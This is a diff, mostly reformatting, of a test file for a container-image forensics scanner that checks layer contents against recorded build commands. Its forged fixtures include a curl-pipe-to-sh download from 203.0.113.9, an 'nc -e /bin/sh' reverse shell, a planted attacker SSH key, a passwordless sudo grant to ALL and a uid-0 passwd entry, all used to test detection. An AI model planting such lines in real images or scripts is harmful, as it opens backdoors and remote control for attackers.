@@ -7,27 +7,40 @@ from __future__ import annotations
 import hashlib
 
 import pytest
-
 from hostile import M, image_tar
+
 from forensics.history.claims import Claim, judge, merge
 from forensics.history.shellwords import run_effects
 from forensics.pipeline import analyze
 
 ELF = b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 8
-SCRIPT = b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\nexec /usr/share/sdk/bin/tool \"$@\"\n"
+SCRIPT = b'#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\nexec /usr/share/sdk/bin/tool "$@"\n'
 ALARM = {"critical", "high", "medium"}
 
 BASE = [
-    M("etc/", type="dir"), M("etc/passwd", b"root:x:0:0:root:/root:/bin/bash\n"),
-    M("etc/sudoers.d/", type="dir"), M("etc/app.conf", b"mode=prod\n"),
-    M("usr/", type="dir"), M("usr/bin/", type="dir"), M("usr/bin/env", ELF, mode=0o755),
-    M("usr/share/", type="dir"), M("usr/share/sdk/", type="dir"), M("usr/share/sdk/bin/", type="dir"),
+    M("etc/", type="dir"),
+    M("etc/passwd", b"root:x:0:0:root:/root:/bin/bash\n"),
+    M("etc/sudoers.d/", type="dir"),
+    M("etc/app.conf", b"mode=prod\n"),
+    M("usr/", type="dir"),
+    M("usr/bin/", type="dir"),
+    M("usr/bin/env", ELF, mode=0o755),
+    M("usr/share/", type="dir"),
+    M("usr/share/sdk/", type="dir"),
+    M("usr/share/sdk/bin/", type="dir"),
     M("usr/share/sdk/bin/tool", ELF + b"sdk", mode=0o755),
-    M("usr/local/", type="dir"), M("usr/local/bin/", type="dir"),
-    M("usr/local/bin/entry.sh", b"#!/bin/sh\nexec \"$@\"\n", mode=0o644),
-    M("opt/", type="dir"), M("opt/app/", type="dir"), M("opt/app/main.py", b"print('hi')\n"),
-    M("opt/app/lib.py", b"X = 1\n"), M("etc/skel/", type="dir"), M("etc/skel/.bashrc", b"# skel\n"),
-    M("home/", type="dir"), M("tmp/", type="dir"), M("tmp/vendor.conf", b"vendor=1\n"),
+    M("usr/local/", type="dir"),
+    M("usr/local/bin/", type="dir"),
+    M("usr/local/bin/entry.sh", b'#!/bin/sh\nexec "$@"\n', mode=0o644),
+    M("opt/", type="dir"),
+    M("opt/app/", type="dir"),
+    M("opt/app/main.py", b"print('hi')\n"),
+    M("opt/app/lib.py", b"X = 1\n"),
+    M("etc/skel/", type="dir"),
+    M("etc/skel/.bashrc", b"# skel\n"),
+    M("home/", type="dir"),
+    M("tmp/", type="dir"),
+    M("tmp/vendor.conf", b"vendor=1\n"),
 ]
 
 
@@ -62,17 +75,16 @@ CASES = {
     ),
     "symlink into a directory (buildah)": (
         "/bin/sh -c ln -sf /usr/share/sdk/bin/tool /usr/local/bin/",
-        dirs("usr/", "usr/local/", "usr/local/bin/") + [
-            M("usr/local/bin/tool", type="symlink", link="/usr/share/sdk/bin/tool")],
-        dirs("usr/", "usr/local/", "usr/local/bin/") + [
-            M("usr/local/bin/tool", type="symlink", link="/tmp/.x/tool")],
+        dirs("usr/", "usr/local/", "usr/local/bin/")
+        + [M("usr/local/bin/tool", type="symlink", link="/usr/share/sdk/bin/tool")],
+        dirs("usr/", "usr/local/", "usr/local/bin/") + [M("usr/local/bin/tool", type="symlink", link="/tmp/.x/tool")],
         "/usr/local/bin/tool",
     ),
     "echo literal (BuildKit)": (
         "RUN /bin/sh -c echo 'deploy ALL=(root) NOPASSWD: /usr/bin/systemctl restart app' "
         "> /etc/sudoers.d/deploy # buildkit",
-        dirs("etc/", "etc/sudoers.d/") + [
-            M("etc/sudoers.d/deploy", b"deploy ALL=(root) NOPASSWD: /usr/bin/systemctl restart app\n")],
+        dirs("etc/", "etc/sudoers.d/")
+        + [M("etc/sudoers.d/deploy", b"deploy ALL=(root) NOPASSWD: /usr/bin/systemctl restart app\n")],
         dirs("etc/", "etc/sudoers.d/") + [M("etc/sudoers.d/deploy", b"deploy ALL=(ALL) NOPASSWD: ALL\n")],
         "/etc/sudoers.d/deploy",
     ),
@@ -96,10 +108,9 @@ CASES = {
     ),
     "append": (
         "/bin/sh -c echo 'app:x:1000:1000::/home/app:/usr/sbin/nologin' >> /etc/passwd",
-        dirs("etc/") + [M("etc/passwd", b"root:x:0:0:root:/root:/bin/bash\n"
-                                          b"app:x:1000:1000::/home/app:/usr/sbin/nologin\n")],
-        dirs("etc/") + [M("etc/passwd", b"root:x:0:0:root:/root:/bin/bash\n"
-                                          b"app:x:0:0::/home/app:/bin/bash\n")],
+        dirs("etc/")
+        + [M("etc/passwd", b"root:x:0:0:root:/root:/bin/bash\napp:x:1000:1000::/home/app:/usr/sbin/nologin\n")],
+        dirs("etc/") + [M("etc/passwd", b"root:x:0:0:root:/root:/bin/bash\napp:x:0:0::/home/app:/bin/bash\n")],
         "/etc/passwd",
     ),
     "cp (content of the source)": (
@@ -122,20 +133,26 @@ CASES = {
     ),
     "chmod (metadata only)": (
         "/bin/sh -c chmod 0755 /usr/local/bin/entry.sh",
-        dirs("usr/", "usr/local/", "usr/local/bin/") + [
-            M("usr/local/bin/entry.sh", b"#!/bin/sh\nexec \"$@\"\n", mode=0o755)],
-        dirs("usr/", "usr/local/", "usr/local/bin/") + [
-            M("usr/local/bin/entry.sh", b"#!/bin/sh\nnc -e /bin/sh 203.0.113.9 4444 &\nexec \"$@\"\n", mode=0o755)],
+        dirs("usr/", "usr/local/", "usr/local/bin/")
+        + [M("usr/local/bin/entry.sh", b'#!/bin/sh\nexec "$@"\n', mode=0o755)],
+        dirs("usr/", "usr/local/", "usr/local/bin/")
+        + [M("usr/local/bin/entry.sh", b'#!/bin/sh\nnc -e /bin/sh 203.0.113.9 4444 &\nexec "$@"\n', mode=0o755)],
         "/usr/local/bin/entry.sh",
     ),
     "chown -R (metadata tree)": (
         "/bin/sh -c chown -R 1000:1000 /opt/app",
-        dirs("opt/") + [M("opt/app/", type="dir", uid=1000, gid=1000),
-                        M("opt/app/main.py", b"print('hi')\n", uid=1000, gid=1000),
-                        M("opt/app/lib.py", b"X = 1\n", uid=1000, gid=1000)],
-        dirs("opt/") + [M("opt/app/", type="dir", uid=1000, gid=1000),
-                        M("opt/app/main.py", b"import os; os.system('id')\n", uid=1000, gid=1000),
-                        M("opt/app/lib.py", b"X = 1\n", uid=1000, gid=1000)],
+        dirs("opt/")
+        + [
+            M("opt/app/", type="dir", uid=1000, gid=1000),
+            M("opt/app/main.py", b"print('hi')\n", uid=1000, gid=1000),
+            M("opt/app/lib.py", b"X = 1\n", uid=1000, gid=1000),
+        ],
+        dirs("opt/")
+        + [
+            M("opt/app/", type="dir", uid=1000, gid=1000),
+            M("opt/app/main.py", b"import os; os.system('id')\n", uid=1000, gid=1000),
+            M("opt/app/lib.py", b"X = 1\n", uid=1000, gid=1000),
+        ],
         "/opt/app/main.py",
     ),
     "sed -i (in-place edit keeps type and mode)": (
@@ -159,8 +176,11 @@ CASES = {
     "rm (deleted)": (
         "/bin/sh -c rm -f /etc/app.conf && ln -s /dev/null /etc/app.conf.disabled",
         dirs("etc/") + [M("etc/.wh.app.conf"), M("etc/app.conf.disabled", type="symlink", link="/dev/null")],
-        dirs("etc/") + [M("etc/app.conf", b"mode=prod\nhook=/tmp/x\n"),
-                        M("etc/app.conf.disabled", type="symlink", link="/dev/null")],
+        dirs("etc/")
+        + [
+            M("etc/app.conf", b"mode=prod\nhook=/tmp/x\n"),
+            M("etc/app.conf.disabled", type="symlink", link="/dev/null"),
+        ],
         "/etc/app.conf",
     ),
 }
@@ -197,21 +217,26 @@ def test_useradd_home_holds_skel_copies_only(tmp_path):
     created_by = "/bin/sh -c useradd -m -s /bin/bash dev"
     honest = dirs("etc/", "home/", "home/dev/") + [
         M("etc/passwd", b"root:x:0:0:root:/root:/bin/bash\ndev:x:1000:1000::/home/dev:/bin/bash\n"),
-        M("home/dev/.bashrc", b"# skel\n")]
+        M("home/dev/.bashrc", b"# skel\n"),
+    ]
     report = scan(tmp_path, created_by, honest)
     assert not alarms(report), [(f.code, f.detail) for f in alarms(report)]
-    forged = honest + [M("home/dev/.ssh/", type="dir"),
-                       M("home/dev/.ssh/authorized_keys", b"ssh-ed25519 AAAAC3Nza attacker\n")]
+    forged = honest + [
+        M("home/dev/.ssh/", type="dir"),
+        M("home/dev/.ssh/authorized_keys", b"ssh-ed25519 AAAAC3Nza attacker\n"),
+    ]
     report = scan(tmp_path, created_by, forged)
     bad = {f.path for f in alarms(report)}
     assert "/home/dev/.ssh/authorized_keys" in bad or any(
-        "/home/dev/.ssh/authorized_keys" in (f.evidence or {}).get("paths", []) for f in alarms(report))
+        "/home/dev/.ssh/authorized_keys" in (f.evidence or {}).get("paths", []) for f in alarms(report)
+    )
 
 
 def test_compileall_explains_bytecode_only(tmp_path):
     created_by = "/bin/sh -c python3 -m compileall -q /opt/app"
     honest = dirs("opt/", "opt/app/", "opt/app/__pycache__/") + [
-        M("opt/app/__pycache__/main.cpython-311.pyc", b"\xa7\r\r\n" + b"\0" * 12)]
+        M("opt/app/__pycache__/main.cpython-311.pyc", b"\xa7\r\r\n" + b"\0" * 12)
+    ]
     assert not alarms(scan(tmp_path, created_by, honest))
     forged = honest + [M("opt/app/main.py", b"import os; os.system('curl x|sh')\n")]
     report = scan(tmp_path, created_by, forged)
@@ -224,9 +249,12 @@ def test_write_through_a_lower_symlink_is_judged_where_it_lands(tmp_path):
     base_link = "/bin/sh -c ln -s /usr/share/sdk/bin/tool /usr/bin/tool"
     created_by = "/bin/sh -c cp /tmp/vendor.conf /usr/bin/tool"
 
-    layers = [BASE, dirs("usr/", "usr/bin/") + [M("usr/bin/tool", type="symlink", link="/usr/share/sdk/bin/tool")],
-              dirs("usr/", "usr/share/", "usr/share/sdk/", "usr/share/sdk/bin/") + [
-                  M("usr/share/sdk/bin/tool", SCRIPT, mode=0o755)]]
+    layers = [
+        BASE,
+        dirs("usr/", "usr/bin/") + [M("usr/bin/tool", type="symlink", link="/usr/share/sdk/bin/tool")],
+        dirs("usr/", "usr/share/", "usr/share/sdk/", "usr/share/sdk/bin/")
+        + [M("usr/share/sdk/bin/tool", SCRIPT, mode=0o755)],
+    ]
     history = [BASE_STEP, {"created_by": base_link}, {"created_by": created_by}]
     report = analyze(str(image_tar(tmp_path, layers, history)))
     [f] = mismatches(report)
@@ -236,9 +264,12 @@ def test_write_through_a_lower_symlink_is_judged_where_it_lands(tmp_path):
 
 # --- the reader's side: what each command claims ----------------------------------------------
 
+
 def test_literal_bytes_are_computed_as_the_shell_would():
-    fx = run_effects("printf 'a\\tb\\n%s\\n' x > /f1 && echo -n hi > /f2 && echo \"$HOME\" > /f3 "
-                     "&& echo 'a\\nb' > /f4 && echo '* * * * * root /x' > /etc/cron.d/job")
+    fx = run_effects(
+        "printf 'a\\tb\\n%s\\n' x > /f1 && echo -n hi > /f2 && echo \"$HOME\" > /f3 "
+        "&& echo 'a\\nb' > /f4 && echo '* * * * * root /x' > /etc/cron.d/job"
+    )
     assert fx.claims["/f1"].content == b"a\tb\nx\n"
     assert fx.claims["/f2"].content == b"hi"
     assert fx.claims["/f3"].content is None  # an expansion: bytes not known
@@ -277,6 +308,7 @@ def test_judge_checks_literal_content_by_digest():
 
     class E:
         type, kind, mode, size, link = "file", "data", 0o644, 2, None
+
     claim = Claim(path="/f", produces="file", command="echo x > /f", content=b"x\n")
     assert judge(claim, Ch, E, None, lambda p, b: None).verified
     Ch.sha256 = hashlib.sha256(b"y\n").hexdigest()
@@ -291,8 +323,10 @@ BUILD_TIME = 1_698_797_000  # the step's own time
 
 def _sdk_layer(extra: list[M]) -> list[M]:
     tree = dirs("opt/", "opt/sdk/", "opt/sdk/lib/", "opt/sdk/share/")
-    tree += [M(f"opt/sdk/lib/mod{i}.so", ELF + bytes([i]), mtime=VENDOR_TIME, uid=1000, gid=1000, mode=0o644)
-             for i in range(8)]
+    tree += [
+        M(f"opt/sdk/lib/mod{i}.so", ELF + bytes([i]), mtime=VENDOR_TIME, uid=1000, gid=1000, mode=0o644)
+        for i in range(8)
+    ]
     tree += [M("opt/sdk/share/README", b"sdk\n", mtime=VENDOR_TIME, uid=1000, gid=1000)]
     return tree + extra
 
@@ -315,8 +349,7 @@ def test_file_planted_in_an_extracted_tree_breaks_the_release_pattern(tmp_path):
 
 def test_no_same_owner_and_touch_drop_the_checks_they_void(tmp_path):
     planted = M("opt/sdk/lib/helper", SCRIPT, mtime=BUILD_TIME, uid=0, gid=0, mode=0o755)
-    report = _scan_at(tmp_path, "/bin/sh -c tar -xzmf /tmp/sdk.tgz --no-same-owner -C /opt/sdk",
-                      _sdk_layer([planted]))
+    report = _scan_at(tmp_path, "/bin/sh -c tar -xzmf /tmp/sdk.tgz --no-same-owner -C /opt/sdk", _sdk_layer([planted]))
     assert not [f for f in mismatches(report) if f.path == "/opt/sdk/lib/helper"]
 
 
